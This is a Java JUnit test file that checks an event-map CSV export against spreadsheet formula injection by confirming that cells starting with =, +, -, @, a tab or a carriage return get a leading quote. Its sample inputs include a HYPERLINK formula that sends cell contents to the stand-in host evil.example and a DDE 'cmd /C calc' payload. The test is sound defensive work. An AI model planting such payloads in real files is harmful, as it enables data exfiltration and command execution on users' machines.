package org.eventmap.io;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringWriter;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Collectors;
import org.eventmap.domain.Category;
import org.eventmap.domain.Dataset;
import org.eventmap.domain.Event;
import org.eventmap.domain.GeoPoint;
import org.eventmap.domain.Place;
import org.eventmap.domain.Source;
import org.eventmap.domain.TimePoint;
import org.eventmap.io.export.ExportFormats;
import org.eventmap.io.formats.FormatRegistry;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A CSV export opened in a spreadsheet must not run text from the file as a formula (OWASP "CSV
 * Injection"): cells of text that start with =, +, -, @, a tab or a carriage return get a leading
 * single quote; the numbers and dates the export writes itself stay numbers and dates.
 */
class CsvFormulaInjectionTest {
  static final List<String> HOSTILE = List.of(
      "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
      "+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1)",
      "\tlooks indented",
      "\r=1+1");

  @TempDir Path dir;

  private static Dataset hostile() {
    Place boston = new Place("boston", HOSTILE.get(2), new GeoPoint(42.36, -71.06), ZoneId.of("America/New_York"),
        Optional.empty());
    Place offset = new Place("sea", HOSTILE.get(3), new GeoPoint(-33.5, -40.25), ZoneOffset.ofHours(-3),
        Optional.empty());
    Category formula = new Category("=1+1", "Formula", Optional.empty());
    List<Event> events = new ArrayList<>();
    for (int i = 0; i < HOSTILE.size(); i++) {
      String text = HOSTILE.get(i);
      events.add(Event.builder("event-" + i, text)
          .start(i == 0 ? TimePoint.ofYear(-30) : TimePoint.ofDay(LocalDate.of(2024, 3, 20 + i % 5)))
          .place(i % 2 == 0 ? boston : offset)
          .category(formula)
          .summary(text)
          .actors(List.of(text))
          .sources(List.of(new Source(text, "Eventmap tests", Optional.of(URI.create("https://example.org/")),
              Optional.empty())))
          .build());
    }
    events.add(Event.builder("-starts-with-dash", "A plain title").start(TimePoint.ofYear(2024)).place(boston)
        .category(formula).build());
    return new Dataset("Hostile CSV", Optional.empty(), "CC0-1.0", Optional.empty(), Optional.empty(),
        List.of(boston, offset), List.of(formula), events, List.of(), List.of());
  }

  private static String csv(Dataset dataset) throws IOException {
    StringWriter out = new StringWriter();
    ExportFormats.named("csv").orElseThrow().write(dataset, out);
    return out.toString();
  }

  /** The cells of an RFC 4180 text, row by row, with quotes removed as a spreadsheet removes them. */
  static List<List<String>> cells(String csv) {
    List<List<String>> rows = new ArrayList<>();
    List<String> row = new ArrayList<>();
    StringBuilder cell = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < csv.length(); i++) {
      char c = csv.charAt(i);
      if (quoted) {
        if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
          cell.append('"');
          i++;
        } else if (c == '"') {
          quoted = false;
        } else {
          cell.append(c);
        }
      } else if (c == '"') {
        quoted = true;
      } else if (c == ',') {
        row.add(cell.toString());
        cell.setLength(0);
      } else if (c == '\r' && i + 1 < csv.length() && csv.charAt(i + 1) == '\n') {
        row.add(cell.toString());
        cell.setLength(0);
        rows.add(row);
        row = new ArrayList<>();
        i++;
      } else {
        cell.append(c);
      }
    }
    return rows;
  }

  @Test
  void csvTextCellsThatStartLikeAFormulaGetALeadingQuote() throws IOException {
    List<List<String>> rows = cells(csv(hostile()));
    List<String> header = rows.get(0);
    assertThat(String.join(",", header)).isEqualTo(CsvExport.HEADER);
    int title = header.indexOf("title");
    int place = header.indexOf("place");
    int category = header.indexOf("category");
    Map<String, List<String>> byId = rows.subList(1, rows.size()).stream()
        .collect(Collectors.toMap(r -> r.get(0), r -> r));
    assertThat(byId).hasSize(HOSTILE.size() + 1);
    for (int i = 0; i < HOSTILE.size(); i++) {
      List<String> row = byId.get("event-" + i);
      assertThat(row.get(title)).isEqualTo("'" + HOSTILE.get(i));
      assertThat(row.get(place)).isIn("'-2+3", "'@SUM(1)");
      assertThat(row.get(category)).isEqualTo("'=1+1");
    }
    assertThat(byId).containsKey("'-starts-with-dash");
  }

  @Test
  void csvNoCellOfTheExportStartsLikeAFormulaButTheNumbersAndDatesItWritesItself() throws IOException {
    List<List<String>> rows = cells(csv(hostile()));
    List<String> header = rows.get(0);
    List<String> own = List.of("start", "end", "precision", "timezone", "lat", "lon", "approximate");
    for (List<String> row : rows.subList(1, rows.size())) {
      for (int c = 0; c < row.size(); c++) {
        String cell = row.get(c);
        if (!own.contains(header.get(c)) && !cell.isEmpty()) {
          assertThat("=+-@\t\r".indexOf(cell.charAt(0))).as("cell %s of column %s", cell, header.get(c)).isNegative();
        }
      }
    }
    Map<String, Map<String, String>> byId = rows.subList(1, rows.size()).stream()
        .collect(Collectors.toMap(r -> r.get(0), r -> row(header, r)));
    Map<String, String> first = byId.get("event-0");
    assertThat(first).containsEntry("start", "-0030").containsEntry("lat", "42.36").containsEntry("lon", "-71.06")
        .containsEntry("timezone", "America/New_York");
    Map<String, String> second = byId.get("event-1");
    assertThat(second).containsEntry("start", "2024-03-21").containsEntry("lat", "-33.5")
        .containsEntry("lon", "-40.25").containsEntry("timezone", "-03:00");
  }

  @Test
  void csvTextFromSummariesActorsAndSourcesIsNotInTheExportAtAll() throws IOException {
    String written = csv(hostile());
    assertThat(written).doesNotContain("Eventmap tests").doesNotContain("https://example.org/");
  }

  @Test
  void csvExportReadBackByOurReaderKeepsTheLeadingQuote() throws IOException {
    Path file = dir.resolve("hostile.csv");
    Files.writeString(file, csv(hostile()), StandardCharsets.UTF_8);
    LoadResult result = FormatRegistry.read(file, ReadOptions.NONE, ProgressListener.NONE);
    assertThat(result.errors()).isEmpty();
    List<String> titles = result.dataset().orElseThrow().events().stream().map(Event::title)
        .collect(Collectors.toList());
    List<String> expected = new ArrayList<>();
    HOSTILE.forEach(h -> expected.add("'" + h));
    expected.add("A plain title");
    assertThat(titles).containsExactlyInAnyOrderElementsOf(expected);
  }

  private static Map<String, String> row(List<String> header, List<String> row) {
    Map<String, String> cells = new java.util.HashMap<>();
    for (int i = 0; i < header.size(); i++) {
      cells.put(header.get(i), row.get(i));
    }
    return cells;
  }
}
